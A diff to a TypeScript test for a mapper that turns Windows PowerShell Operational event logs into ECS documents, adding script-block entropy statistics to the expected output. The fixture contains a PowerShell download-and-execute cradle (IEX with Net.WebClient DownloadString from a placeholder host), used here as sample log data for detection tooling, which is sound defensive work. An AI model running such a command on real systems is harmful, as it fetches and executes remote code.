@@ -3,6 +3,7 @@ import { describe, test } from 'node:test'
 import { parseEventXmlText } from '../xml/parse.ts'
 import type { EcsDocument } from './index.ts'
 import { mapWindowsEvent } from './index.ts'
+import { scriptBlockStats } from './powershell-entropy.ts'
 
 const SID = 'S-1-5-21-1350058589-2282154016-2764056528-1000'
 
@@ -108,6 +109,8 @@ describe('mapWindowsEvent for Microsoft-Windows-PowerShell/Operational', () => {
         file: {
           script_block_id: 'f5521cbd-656e-4296-b74d-9ffb4eec23b0',
           script_block_text: 'IEX (New-Object Net.WebClient).DownloadString("http://x/a.ps1")',
+          // the statistics' own tests are in powershell-entropy.test.ts
+          ...scriptBlockStats('IEX (New-Object Net.WebClient).DownloadString("http://x/a.ps1")'),
         },
       },
       file: {
